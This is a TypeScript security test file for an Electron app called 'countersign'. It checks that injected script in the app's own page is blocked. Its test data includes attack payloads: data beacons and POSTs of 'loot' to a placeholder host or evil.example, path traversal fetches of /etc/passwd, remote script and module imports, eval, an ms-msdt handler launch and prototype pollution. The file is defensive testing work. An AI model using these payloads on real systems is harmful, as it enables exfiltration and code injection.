/** What foreign script within our own page would try: our page is served locked down, and its bridge is narrow. */
import assert from 'node:assert/strict'
import type { Area, Attack } from '../attack.ts'
import type { Scene } from '../scene.ts'
import { loads, refusedBy } from './scripts.ts'

/** Runs in a task of its own: code that a debugger evaluates directly may run text. */
const later = (code: string) =>
  `new Promise((r, e) => setTimeout(() => { try { r(${code}) } catch (error) { e(error) } }))`

/** Runs the script while staff has the camera's picture open in our own page; it must return this answer. */
const whileTesting = (script: string, answer: string) => async (scene: Scene) => {
  await scene.say({ do: 'test-camera', isOpen: true })
  const got = await scene.runInOwnPage(script)
  await scene.say({ do: 'test-camera', isOpen: false })
  assert.equal(got, answer)
}

export const ownPage: Area = {
  title: 'Foreign script in our own page',
  about:
    'Our screens show text that comes from elsewhere. Should any of it ever run as a script, this is what it would try. It may ask for what the person at the screen may ask for, and no more.',
  by: 'own page',
  guard: ['own page'],
  attacks: [
    { name: 'leave for elsewhere', script: 'location = "http://{elsewhere}/"', denied: 'navigation' },
    { name: 'leave for a public host', script: 'location = "https://evil.example/"', denied: 'navigation' },
    {
      name: 'leave by a link',
      script:
        'const a = document.createElement("a"); a.href = "http://{elsewhere}/"; document.body.append(a); a.click()',
      denied: 'navigation'
    },
    {
      name: 'leave by a form',
      script:
        'const f = document.createElement("form"); f.action = "http://{elsewhere}/"; f.method = "post"; document.body.append(f); f.submit()'
    },
    { name: 'leave for a file', script: 'location = "file:///etc/passwd"', guard: ['browser'] },
    { name: 'leave for another host of our scheme', script: 'location = "app://other/index.html"' },
    { name: 'leave for data', script: 'location = "data:text/html,x"', guard: ['browser'] },
    { name: 'leave for a blob', script: 'location = URL.createObjectURL(new Blob(["x"], { type: "text/html" }))' },
    {
      name: 'leave for a file of our own that isn’t a page',
      script: 'location = "app://countersign/page.js"',
      denied: 'navigation'
    },
    {
      name: 'open a window',
      script: 'window.open("http://{elsewhere}/")',
      denied: 'new window',
      guard: ['windows']
    },
    {
      name: 'open a window with our own page',
      script: 'window.open("app://countersign/index.html")',
      denied: 'new window',
      guard: ['windows']
    },
    {
      name: 'embed a page of elsewhere',
      script:
        'const f = document.createElement("iframe"); f.src = "http://{elsewhere}/"; document.body.append(f); await new Promise((r) => setTimeout(r, 300))'
    },
    {
      name: 'embed our own page, to ask from a frame',
      script:
        'const f = document.createElement("iframe"); f.src = "app://countersign/index.html"; document.body.append(f); await new Promise((r) => setTimeout(r, 300)); try { return f.contentDocument?.title ?? "" } catch { return "" }',
      answers: ''
    },
    {
      name: 'fetch from elsewhere',
      script: refusedBy('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
      answers: 'refused'
    },
    {
      name: 'fetch a file outside our folder',
      script:
        'return fetch("/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd").then((r) => r.status, () => 404)',
      answers: 404
    },
    {
      name: 'fetch our own sources',
      script: 'return fetch("/..%2f..%2f..%2f..%2fpackage.json").then((r) => r.status, () => 404)',
      answers: 404
    },
    {
      name: 'write to our scheme',
      script: 'return fetch("/index.html", { method: "POST", body: "x" }).then((r) => r.status, () => 405)',
      answers: 405
    },
    {
      name: 'load a picture from elsewhere',
      script: loads('img', 'e.src = "http://{elsewhere}/"'),
      answers: 'refused'
    },
    {
      name: 'load a script from elsewhere',
      script: refusedBy(
        'new Promise((r, e) => { const s = document.createElement("script"); s.onload = r; s.onerror = e; s.src = "http://{elsewhere}/"; document.body.append(s) })'
      ),
      answers: 'refused'
    },
    {
      name: 'load a style from elsewhere',
      script: loads('link', 'e.rel = "stylesheet"; e.href = "http://{elsewhere}/"'),
      answers: 'refused'
    },
    {
      name: 'embed an object',
      script:
        'const o = document.createElement("object"); try { o.data = "http://{elsewhere}/" } catch {} document.body.append(o); await new Promise((r) => setTimeout(r, 300))'
    },
    {
      name: 'run a script that it writes',
      script:
        'const s = document.createElement("script"); try { s.textContent = "window.owned = true" } catch {} document.body.append(s); return window.owned === true',
      answers: false
    },
    {
      name: 'run a script from an attribute',
      script:
        'const i = new Image(); try { i.setAttribute("onerror", "window.owned2 = true") } catch {} i.src = "x"; document.body.append(i); await new Promise((r) => setTimeout(r, 300)); return window.owned2 === true',
      answers: false
    },
    {
      name: 'change what all links mean',
      script:
        'const b = document.createElement("base"); b.href = "http://{elsewhere}/"; document.head.append(b); const changed = document.baseURI.includes("{elsewhere}"); b.remove(); return changed',
      answers: false
    },
    {
      name: 'speak over a socket',
      script:
        'return new Promise((r) => { try { const s = new WebSocket("ws://{elsewhere}/"); s.onopen = () => r("granted"); s.onerror = () => r("refused") } catch { r("refused") } })',
      answers: 'refused'
    },
    {
      name: 'send a last word',
      script: 'navigator.sendBeacon("http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))'
    },
    {
      name: 'save a file',
      script:
        'const a = document.createElement("a"); a.download = "run.exe"; a.href = URL.createObjectURL(new Blob(["MZ"])); document.body.append(a); a.click()',
      guard: ['downloads']
    },
    {
      name: 'watch through the camera',
      script: refusedBy('(navigator.mediaDevices?.getUserMedia({ video: true }) ?? Promise.reject())'),
      answers: 'refused',
      guard: ['camera test']
    },
    {
      name: 'learn the names of cameras and microphones',
      script: 'return (await navigator.mediaDevices.enumerateDevices()).map((d) => d.label).filter(Boolean)',
      answers: [],
      guard: ['camera test']
    },
    {
      name: 'listen while staff tests the camera',
      play: whileTesting(refusedBy('navigator.mediaDevices.getUserMedia({ audio: true })'), 'refused'),
      guard: ['own page', 'camera test']
    },
    {
      name: 'watch and listen while staff tests the camera',
      play: whileTesting(refusedBy('navigator.mediaDevices.getUserMedia({ audio: true, video: true })'), 'refused'),
      guard: ['own page', 'camera test']
    },
    {
      name: 'watch once staff has tested the camera',
      play: async (scene) => {
        await whileTesting(refusedBy('navigator.mediaDevices.getUserMedia({ video: true })'), 'granted')(scene)
        assert.equal(
          await scene.runInOwnPage(refusedBy('navigator.mediaDevices.getUserMedia({ video: true })')),
          'refused'
        )
      },
      guard: ['camera test']
    },
    {
      name: 'read the clipboard',
      script: refusedBy('(navigator.clipboard?.readText() ?? Promise.reject())'),
      answers: 'refused',
      guard: ['permissions']
    },
    { name: 'notify', script: 'return Notification.requestPermission()', guard: ['permissions'], answers: 'denied' },
    {
      name: 'use an element that holds other pages',
      script:
        'const w = document.createElement("webview"); w.src = "http://{elsewhere}/"; document.body.append(w); return typeof w.loadURL',
      answers: 'undefined',
      guard: ['browser']
    },
    ...(
      [
        ['load letters from elsewhere', 'new FontFace("a", "url(http://{elsewhere}/)").load()'],
        [
          'ask by the old interface',
          'new Promise((r, e) => { const x = new XMLHttpRequest(); x.onload = r; x.onerror = e; x.open("POST", "http://{elsewhere}/"); x.send("loot") })'
        ],
        [
          'listen to events from elsewhere',
          'new Promise((r, e) => { const s = new EventSource("http://{elsewhere}/"); s.onopen = r; s.onerror = e })'
        ],
        [
          'send a last word that outlives it',
          'fetch("http://{elsewhere}/", { method: "POST", body: "loot", keepalive: true, mode: "no-cors" })'
        ],
        [
          'speak over an encrypted socket',
          'new Promise((r, e) => { const s = new WebSocket("wss://{elsewhere}/"); s.onopen = r; s.onerror = e })'
        ],
        [
          'play a sound from elsewhere',
          'new Promise((r, e) => { const a = new Audio("http://{elsewhere}/"); a.oncanplay = r; a.onerror = e; a.load() })'
        ],
        [
          'play a film from elsewhere',
          'new Promise((r, e) => { const v = document.createElement("video"); v.oncanplay = r; v.onerror = e; v.src = "http://{elsewhere}/" })'
        ],
        ['take a part of a script from elsewhere', 'import("http://{elsewhere}/")'],
        ['run a module of its own making', 'import(URL.createObjectURL(new Blob(["0"], { type: "text/javascript" })))'],
        ['run data as a module', 'import("data:text/javascript,0")'],
        ['take a style as a module from elsewhere', 'import("http://{elsewhere}/", { with: { type: "css" } })'],
        [
          'run a worker of elsewhere',
          'new Promise((r, e) => { const w = new Worker("http://{elsewhere}/"); w.onmessage = r; w.onerror = e })'
        ],
        [
          'run a shared worker of its own making',
          'new Promise((r, e) => { const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(1)"]))); w.port.onmessage = r; w.onerror = e })'
        ],
        ['run a text by another way', later('eval("1")')],
        ['run a text as a function', later('new Function("return 1")()')],
        ['run a text as a function that waits', later('(async () => {}).constructor("return 1")()')],
        ['make a fragment of a text', '(async () => document.createRange().createContextualFragment("<b>x</b>"))()'],
        ['make a document of a text', '(async () => new DOMParser().parseFromString("<b>x</b>", "text/html"))()'],
        [
          'make markup of a text in a shadow',
          '(async () => { document.createElement("div").attachShadow({ mode: "open" }).innerHTML = "<b>x</b>" })()'
        ],
        [
          'make markup of a text past what cleans it',
          '(async () => document.createElement("div").setHTMLUnsafe("<b>x</b>"))()'
        ],
        [
          'make markup of a text in an element’s place',
          '(async () => { const d = document.createElement("div"); document.createElement("p").append(d); d.outerHTML = "<b>x</b>" })()'
        ],
        ['put a text in place of the page', '(async () => { document.documentElement.innerHTML = "<b>x</b>" })()'],
        [
          'run a text in a drawing',
          '(async () => { const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.textContent = "window.drawn = true"; document.body.append(s); if (!window.drawn) throw 0 })()'
        ],
        [
          'run a text from an attribute of a drawing',
          '(async () => document.createElementNS("http://www.w3.org/2000/svg", "svg").setAttribute("onload", "window.drawn = true"))()'
        ],
        [
          'delete from our scheme',
          'fetch("/index.html", { method: "DELETE" }).then(({ ok }) => ok || Promise.reject())'
        ],
        [
          'replace in our scheme',
          'fetch("/index.html", { method: "PUT", body: "x" }).then(({ ok }) => ok || Promise.reject())'
        ]
      ] as const
    ).map(([name, tried]): Attack => ({ name, script: refusedBy(tried), answers: 'refused' })),
    {
      name: 'paint with styles of its own',
      script:
        'const s = document.createElement("style"); s.textContent = "h1 { color: rgb(9, 9, 9) }"; document.head.append(s); return getComputedStyle(document.querySelector("h1")).color',
      answers: 'rgb(1, 2, 3)'
    },
    {
      name: 'paint with an attribute of its own',
      script:
        'const h = document.querySelector("h1"); h.setAttribute("style", "color: rgb(9, 9, 9)"); return getComputedStyle(h).color',
      answers: 'rgb(1, 2, 3)'
    },
    {
      name: 'say by a background what it knows',
      script:
        'document.body.style.backgroundImage = "url(http://{elsewhere}/a)"; await new Promise((r) => setTimeout(r, 200)); document.body.style.backgroundImage = ""'
    },
    {
      name: 'show a page of elsewhere in a set of frames',
      script:
        'const f = document.createElement("frame"); f.src = "http://{elsewhere}/"; const s = document.createElement("frameset"); s.append(f); document.documentElement.append(s); await new Promise((r) => setTimeout(r, 200)); s.remove()'
    },
    {
      name: 'call another computer',
      script:
        'return ["RTCPeerConnection", "webkitRTCPeerConnection", "WebTransport", "WebSocketStream"].filter((name) => name in window)',
      answers: []
    },
    {
      name: 'call another computer with what an empty frame has',
      script:
        'const f = document.createElement("iframe"); document.body.append(f); const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: ["turn:{elsewhere}?transport=tcp", "turn:{elsewhere}"], username: "a", credential: "b" }, { urls: "stun:{elsewhere}" }] }); c.createDataChannel("x"); await c.setLocalDescription(); await new Promise((r) => setTimeout(r, 700)); f.remove()'
    },
    {
      name: 'speak by the newest protocol with what an empty frame has',
      script:
        'const f = document.createElement("iframe"); document.body.append(f); try { new f.contentWindow.WebTransport("https://{elsewhere}/").ready.catch(() => {}) } catch {} await new Promise((r) => setTimeout(r, 500)); f.remove()'
    },
    {
      name: 'make markup of a text',
      script: refusedBy('(async () => { document.createElement("div").innerHTML = "<b>x</b>" })()'),
      answers: 'refused'
    },
    {
      name: 'make markup of a text beside what is there',
      script: refusedBy('(async () => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>") })()'),
      answers: 'refused'
    },
    {
      name: 'make markup of a text in a frame',
      script: refusedBy('(async () => { document.createElement("iframe").srcdoc = "<b>x</b>" })()'),
      answers: 'refused'
    },
    {
      name: 'write the page again',
      script: refusedBy('(async () => { document.write("<b>x</b>") })()'),
      answers: 'refused'
    },
    {
      name: 'give a script an address of its own choice',
      script: refusedBy('(async () => { document.createElement("script").src = "/page.js" })()'),
      answers: 'refused'
    },
    {
      name: 'run one of our files as a worker',
      script: refusedBy('(async () => { new Worker("/page.js") })()'),
      answers: 'refused'
    },
    {
      name: 'make itself someone who may make markup',
      script: refusedBy('(async () => { trustedTypes.createPolicy("mine", { createHTML: (text) => text }) })()'),
      answers: 'refused'
    },
    {
      name: 'make itself someone who may, for all that it writes',
      script: refusedBy('(async () => { trustedTypes.createPolicy("default", { createHTML: (text) => text }) })()'),
      answers: 'refused'
    },
    {
      name: 'find more of Electron or Node than the bridge',
      guard: ['bridge'],
      script:
        'return ["require", "process", "module", "ipcRenderer", "electron", "Buffer", "global"].filter((name) => name in window)',
      answers: []
    },
    {
      name: 'name a channel of its own choice',
      guard: ['bridge'],
      script:
        'return [typeof countersign.invoke, typeof countersign.send, typeof countersign.accounts.drop, typeof countersign.ipcRenderer]',
      answers: ['undefined', 'undefined', 'undefined', 'undefined']
    },
    {
      name: 'listen to what is not an event',
      guard: ['bridge'],
      script: 'try { countersign.on("ipc-message", () => {}); return "granted" } catch { return "refused" }',
      answers: 'refused'
    },
    {
      name: 'put its own function in the bridge’s place',
      script:
        '"use strict"; try { countersign.accounts.remove = () => "mine" } catch {} return String(countersign.accounts.remove).includes("mine")',
      answers: false,
      guard: ['browser']
    },
    {
      name: 'ask with the wrong shape',
      guard: ['bridge'],
      script: 'return countersign.drafts.get({ id: "a", path: "/etc/passwd" }).then((r) => r.error?.code)',
      answers: 'bad-input'
    },
    {
      name: 'ask with nothing',
      guard: ['bridge'],
      script: 'return countersign.drafts.get().then((r) => r.error?.code)',
      answers: 'bad-input'
    },
    {
      name: 'ask with a number, a list, a text, nothing at all',
      guard: ['bridge'],
      script:
        'return Promise.all([1, [], "a", null, true].map((input) => countersign.drafts.get(input).then((r) => r.error?.code)))',
      answers: ['bad-input', 'bad-input', 'bad-input', 'bad-input', 'bad-input']
    },
    {
      name: 'ask with something that runs',
      script:
        'return countersign.drafts.get({ get id() { window.ran = true; return "a" }, run() {} }).then((r) => r.error?.code, () => "bad-input")',
      answers: 'bad-input',
      guard: ['browser']
    },
    {
      name: 'ask with a text of twenty megabytes',
      guard: ['bridge'],
      script: 'return countersign.drafts.get({ id: "a".repeat(2e7) }).then((r) => r.error?.code, () => "bad-input")',
      answers: 'bad-input'
    },
    {
      name: 'ask from a frame that it makes',
      script:
        'const f = document.createElement("iframe"); document.body.append(f); const there = typeof f.contentWindow.countersign; f.remove(); return there',
      answers: 'undefined',
      guard: ['browser']
    },
    {
      name: 'ask by the bridge’s own messages, without its functions',
      guard: ['bridge'],
      script:
        'for (const name of ["accounts.remove", "drafts.get"]) window.postMessage({ channel: name, args: [{ id: "a" }] }, "*"); await new Promise((r) => setTimeout(r, 200))'
    },
    {
      name: 'have something fetched ahead',
      script:
        'for (const rel of ["prefetch", "preload", "prerender", "preconnect", "modulepreload"]) { const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = "http://{elsewhere}/" + rel; document.head.append(l) } await new Promise((r) => setTimeout(r, 400))'
    },
    {
      name: 'register a service worker that would outlive it',
      script: refusedBy('navigator.serviceWorker.register("/page.js")'),
      answers: 'refused',
      guard: ['browser']
    },
    {
      name: 'run a worker of its own making',
      script: refusedBy(
        'new Promise((r, e) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = r; w.onerror = e })'
      ),
      answers: 'refused'
    },
    {
      name: 'run a text as a script',
      script:
        'try { setTimeout("window.ranText = true") } catch {} await new Promise((r) => setTimeout(r, 100)); return window.ranText === true',
      answers: false
    },
    {
      name: 'open a file of this computer',
      script: refusedBy('(window.showOpenFilePicker?.() ?? Promise.reject())'),
      answers: 'refused',
      guard: ['browser']
    },
    {
      name: 'start a program of the system',
      script: 'const a = document.createElement("a"); a.href = "ms-msdt:/id"; document.body.append(a); a.click()',
      denied: 'navigation',
      guard: ['own page']
    },
    {
      name: 'ask with a prototype',
      guard: ['bridge'],
      script: 'return countersign.drafts.get(JSON.parse(`{"__proto__":{"id":"a"}}`)).then((r) => r.error?.code)',
      answers: 'bad-input'
    },
    {
      name: 'allow signing pages another address, where the organisation says which',
      script:
        'return countersign.counter.configure({ allowedOrigins: ["https://evil.example"] }).then((r) => r.error?.code)',
      guard: ['organisation'],
      answers: 'not-allowed'
    },
    {
      name: 'connect an account of its own, where the organisation wants no others',
      script:
        'return countersign.accounts.add({ kind: "service", name: "a", baseUrl: "https://evil.example", authentication: { scheme: "none" } }).then((r) => r.error?.code)',
      guard: ['organisation'],
      answers: 'not-allowed'
    },
    {
      name: 'have a drop folder send, where the organisation says which do',
      script: 'return countersign.dropFolders.change({ id: "a", sends: true }).then((r) => r.error?.code)',
      guard: ['organisation'],
      answers: 'not-allowed'
    }
  ]
}
